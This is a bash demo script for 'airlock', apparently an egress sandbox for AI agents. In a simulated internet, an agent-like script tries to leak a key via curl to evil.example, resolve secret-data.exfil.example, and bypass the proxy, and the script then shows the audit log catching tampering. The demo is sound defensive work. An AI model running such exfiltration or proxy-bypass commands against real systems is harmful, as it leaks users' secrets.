#!/usr/bin/env bash
# make demo: airlock's main job, offline. A fake internet (namespace + DNS + HTTPS
# servers for pypi.org, registry.npmjs.org, github.com, evil.example ...) stands in
# for the real one; `airlock run` starts a sandbox whose only way out is the
# gateway, an agent-like script fetches what it may and tries what it may not,
# and the tamper-evident audit log is verified, queried and rendered as an HTML
# report ($AIRLOCK_DEMO_OUT, default /tmp/airlock-demo) at the end.
set -euo pipefail
cd "$(dirname "$0")/.."
[ "$(id -u)" = 0 ] || { echo "demo: needs root (namespaces, cgroups, iptables): sudo make demo" >&2; exit 1; }

bin=${AIRLOCK_BIN:-bin/airlock}
out=${AIRLOCK_DEMO_OUT:-/tmp/airlock-demo}
mkdir -p "$out"
# A previous demo's files go: its log's chain and key would be continued.
rm -f "$out"/audit.jsonl* "$out"/audit.pub "$out"/tampered.jsonl "$out"/report.html "$out"/report.json
work=$(mktemp -d /tmp/airlock-demo.XXXXXX)
chmod 755 "$work"
fakepid=""
cleanup() {
	[ -n "$fakepid" ] && kill "$fakepid" 2>/dev/null && wait "$fakepid" 2>/dev/null
	rm -rf "$work"
}
trap cleanup EXIT

go build -o "$work/fakenet" ./test/cmd/fakenet
"$work/fakenet" --dir "$work" &
fakepid=$!
for _ in $(seq 100); do [ -f "$work/fakenet.env" ] && break; sleep 0.1; done
[ -f "$work/fakenet.env" ] || { echo "demo: fake internet did not start" >&2; exit 1; }
# shellcheck disable=SC1091
. "$work/fakenet.env"

"$bin" ca init --dir "$work/ca" >/dev/null
cat >"$work/airlock.yaml" <<YAML
policy: {mode: enforce, presets: [python, node, go, github]}
dns: {upstreams: ["$FAKENET_DNS"]}
upstream: {allow_cidrs: ["$FAKENET_CIDR"], ca_file: "$FAKENET_CA"}
audit: {file: $out/audit.jsonl}
ca: {cert: $work/ca/ca.pem, key: $work/ca/ca.key}
limits: {memory: 256M, pids: 128, timeout: 60s}
YAML

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
step "airlock run: an agent fetches from registries and tries to leak"
set +e
"$bin" run --config "$work/airlock.yaml" -- sh -c '
  echo "# GET https://pypi.org/simple/requests/ (preset python, read-only)"
  curl -sS --max-time 10 https://pypi.org/simple/requests/
  echo "# GET https://registry.npmjs.org/left-pad (preset node)"
  curl -sS --max-time 10 https://registry.npmjs.org/left-pad
  echo "# POST https://pypi.org/legacy/ (registries are read-only)"
  curl -sS --max-time 10 -o /dev/null -w "%{http_code}\n" -X POST -d x=1 https://pypi.org/legacy/
  echo "# GET https://evil.example/ (not allowed)"
  curl -sS --max-time 10 https://evil.example/?key=stolen || true
  echo "# DNS lookup of secret-data.exfil.example (never forwarded)"
  getent hosts secret-data.exfil.example || echo "not resolved"
  echo "# direct TCP to the fake internet, bypassing the proxy"
  curl -sS --noproxy "*" --max-time 5 http://'"$FAKENET_HOST_EXFIL_EXAMPLE"'/ || true
'
code=$?
set -e
echo "(exit code $code)"

step "airlock audit verify (chain and Ed25519 checkpoints)"
"$bin" audit pubkey --key "$out/audit.jsonl.key" >"$out/audit.pub"
"$bin" audit verify --pubkey "$out/audit.pub" "$out/audit.jsonl"
step "airlock audit query --decision deny"
"$bin" audit query --file "$out/audit.jsonl" --decision deny --format table
step "airlock audit report: one self-contained page for auditors"
"$bin" audit report --pubkey "$out/audit.pub" --out "$out/report.html" "$out/audit.jsonl"
"$bin" audit report --pubkey "$out/audit.pub" --format json --out "$out/report.json" "$out/audit.jsonl"
echo "report: $out/report.html (open it in a browser; it fetches nothing)"
echo "log: $out/audit.jsonl; verify it yourself: airlock audit verify --pubkey $out/audit.pub $out/audit.jsonl"
step "someone turns a deny into an allow in the log; verify names the line"
cp "$out/audit.jsonl" "$out/tampered.jsonl"
line=$(grep -n '"decision":"deny"' "$out/tampered.jsonl" | head -1 | cut -d: -f1)
sed -i "${line}s/\"decision\":\"deny\"/\"decision\":\"allow\"/" "$out/tampered.jsonl"
if "$bin" audit verify --pubkey "$out/audit.pub" "$out/tampered.jsonl"; then
	echo "demo: tampering went unnoticed" >&2
	exit 1
fi

step "what the demo leaves in $out"
echo "audit.jsonl     the log (its signing key beside it: audit.jsonl.key, .pub)"
echo "audit.pub       the public key that checks its signatures"
echo "report.html     the auditor's page; report.json the same numbers"
echo "tampered.jsonl  the copy with one deny turned into an allow"
echo "next: README.md, \"Install\" and \"Run your project in a sandbox\""
